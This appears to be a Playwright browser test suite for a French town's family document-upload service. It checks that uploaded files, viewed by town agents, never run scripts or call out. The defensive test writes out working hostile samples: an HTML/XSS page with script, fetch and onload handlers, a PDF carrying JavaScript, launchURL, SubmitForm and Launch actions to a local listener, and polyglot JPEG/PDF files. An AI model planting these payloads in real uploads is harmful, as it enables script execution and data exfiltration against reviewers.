"""Whatever a family sends, nothing in it runs or calls home when the town looks at it."""

import http.server
import re
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Dialog, Error, Page

from tests import bombs, samples
from tests.journeys.person import Person
from tests.journeys.stories import comes_in_for_the_first_time, fills_in, gives, sends, signs_in

pytestmark = pytest.mark.browser

Someone = Callable[..., Person]
SAFE = {
    "x-content-type-options": "nosniff",
    "cross-origin-resource-policy": "same-origin",
    "cache-control": "private, no-store",
    "content-security-policy": "sandbox; default-src 'none'; frame-ancestors 'none'",
}
SHOWN_IN_A_PAGE = """address => {
  const ways = {img: "src", iframe: "src", embed: "src", object: "data", video: "src",
                script: "src", link: "href"};
  for (const [name, way] of Object.entries(ways)) {
    const shown = document.createElement(name);
    if (name === "link") shown.rel = "stylesheet";
    shown[way] = address;
    document.body.append(shown);
  }
}"""


@dataclass
class Listener:
    """A place of the attacker's on this machine: notes every call, serves a few pages."""

    port: int = 0
    calls: list[str] = field(default_factory=list)
    pages: dict[str, tuple[str, bytes]] = field(default_factory=dict)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def calls_home(self) -> list[str]:
        """What was asked for, but for the attacker's own pages, which the test opens itself."""
        return [one for one in self.calls if one.startswith("/home")]


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            listener.calls.append(self.path)
            media_type, content = listener.pages.get(self.path, ("text/plain", b""))
            self.send_response(200)
            self.send_header("Content-Type", media_type)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_POST = do_GET  # noqa: N815  the standard library's name

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        listener.port = server.server_port
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield listener
        server.shutdown()
        thread.join()


def hostile_page(home: str) -> bytes:
    return (
        f"<html><script>window.ran=1;fetch('{home}/home-script');alert(1)</script>"
        f"<img src='{home}/home-image'><svg onload=alert(2)></html>"
    ).encode()


def hostile_pdf(home: str) -> bytes:
    """A PDF that wants to call home when it is opened, printed, turned over or clicked."""
    where = f"{home}/home-pdf".encode()
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 6 0 R/WP 6 0 R>>>>",
        2: bombs.ONE_PAGE,
        3: bombs.PAGE % b"/AA<</O 6 0 R/C 7 0 R>>/Annots[8 0 R 9 0 R]",
        4: bombs.stream(b"0 0 595 300 re f"),
        5: b"<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\('%b'\\))/Next 7 0 R>>" % where,
        6: b"<</S/SubmitForm/F<</FS/URL/F(%b)>>/Fields[]/Flags 4>>" % where,
        7: b"<</S/GoToR/F<</FS/URL/F(%b)>>/D[0/Fit]>>" % where,
        8: b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(%b)>>>>" % where,
        9: b"<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Launch/F(%b)>>>>" % where,
    }
    return bombs.pdf_of(objects)


def hostile_files(folder: Path, home: str) -> dict[str, Path]:
    page, photo = hostile_page(home), samples.jpeg()
    made = {
        "actif.pdf": hostile_pdf(home),
        "double.pdf": samples.pdf().replace(b"\n", b"\n%" + page + b"\n", 1),
        "photo.jpg": photo[:2] + _comment(page) + photo[2:] + page,
    }
    for name, content in made.items():
        (folder / name).write_bytes(content)
    return {name: folder / name for name in made}


def _comment(text: bytes) -> bytes:
    return b"\xff\xfe" + (len(text) + 2).to_bytes(2, "big") + text


@dataclass
class Watch:
    """What a page does of its own while it is looked at."""

    dialogs: list[str] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)

    def over(self, page: Page) -> None:
        page.on("dialog", self._note)
        page.on("popup", lambda popup: self.opened.append(popup.url))

    def _note(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()


def the_family_sends(parent: Person, files: Mapping[str, Path]) -> str:
    comes_in_for_the_first_time(parent, "pirate@exemple.fr")
    fills_in(parent, child="Malo")
    gives(parent, "child_identity", files["actif.pdf"])
    gives(parent, "guardian_identity", files["photo.jpg"])
    gives(parent, "proof_of_address", files["double.pdf"])
    parent.waits_for("autre chose que des pages")
    for _ in range(3):
        parent.waits_for("isible")
    parent.presses(re.compile("^(Continuer|Vérifier)"))
    return sends(parent)


def originals_on(page: Page) -> set[str]:
    """The addresses of the originals that this page offers."""
    found = page.locator("a[href*='/fichiers/']").evaluate_all("all => all.map(one => one.href)")
    return {re.sub(r"(/fichiers/[0-9a-f]+).*", r"\1", address) for address in found}


def test_nothing_that_a_family_sends_runs_or_calls_home(someone: Someone, tmp_path: Path) -> None:
    watch = Watch()
    with listening() as listener:
        files = hostile_files(tmp_path, listener.address)
        parent = someone()
        watch.over(parent.page)
        number = the_family_sends(parent, files)

        agent = someone()
        watch.over(agent.page)
        signs_in(agent, "karim@valbourg.example")
        agent.goes_to(f"/agent/dossiers?file=a-verifier&q={number}")
        agent.presses(re.compile("Malo"))
        agent.sees("Contenu actif")
        desk, originals = agent.page.url, set[str]()
        tabs = agent.page.locator("a[href*='piece=']")
        pieces = tabs.evaluate_all("all => all.map(one => one.href)")
        for piece in pieces:
            agent.page.goto(piece)
            originals |= originals_on(agent.page)
        assert len(originals) == len(files)
        for original in originals:
            _looked_at_in_every_way(agent, desk, original, listener)
        assert agent.page.evaluate("window.ran") is None
        assert listener.calls_home == []
        assert (watch.dialogs, watch.opened) == ([], [])
        _would_be_noticed(someone(), listener)


def _looked_at_in_every_way(agent: Person, desk: str, original: str, listener: Listener) -> None:
    page = agent.page
    answer = page.context.request.get(original)
    assert answer.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
    assert answer.headers["content-type"] in {"application/pdf", "image/jpeg"}
    assert {name: answer.headers[name] for name in SAFE} == SAFE
    image = page.context.request.get(f"{original}/page/page-01.jpg")
    assert image.headers["content-type"] == "image/jpeg"
    assert {name: image.headers[name] for name in SAFE} == SAFE
    assert b"<script" not in image.body()
    page.goto(f"{original}/seul")
    page.goto(f"{original}/page/page-01.jpg")
    with page.expect_download() as download, suppress(Error):  # an attachment is no page
        page.goto(original)
    assert download.value.suggested_filename.endswith((".pdf", ".jpg"))
    page.goto(desk)
    for address in (original, f"{original}/page/page-01.jpg"):
        page.evaluate(SHOWN_IN_A_PAGE, address)
    page.wait_for_load_state("networkidle")
    foreign = "".join(
        f"<{name} {way}='{original}'></{name}>"
        for name, way in (("img", "src"), ("iframe", "src"), ("embed", "src"), ("object", "data"))
    )
    listener.pages["/foreign"] = ("text/html", f"<html><body>{foreign}</body></html>".encode())
    page.goto(f"{listener.address}/foreign")
    page.wait_for_load_state("networkidle")
    assert page.locator("img").evaluate("one => one.naturalWidth") == 0
    page.goto(desk)


def _would_be_noticed(stranger: Person, listener: Listener) -> None:
    """The control: the same page, served by somebody careless, does run and does call home."""
    watch = Watch()
    watch.over(stranger.page)
    listener.pages["/careless"] = ("text/html", hostile_page(listener.address))
    stranger.page.goto(f"{listener.address}/careless")
    stranger.page.wait_for_load_state("networkidle")
    assert {"/home-script", "/home-image"} <= set(listener.calls_home)
    assert watch.dialogs


def test_a_file_that_is_no_picture_is_never_served(someone: Someone, tmp_path: Path) -> None:
    with listening() as listener:
        page = hostile_page(listener.address)
        drawing = tmp_path / "dessin.png"
        drawing.write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg">' + page + b"</svg>")
        parent, watch = someone(), Watch()
        watch.over(parent.page)
        comes_in_for_the_first_time(parent, "dessin@exemple.fr")
        fills_in(parent, child="Ondine")
        gives(parent, "child_identity", drawing)
        parent.sees("ne correspond pas à son nom")
        assert originals_on(parent.page) == set()
        assert listener.calls_home == []
        assert watch.dialogs == []
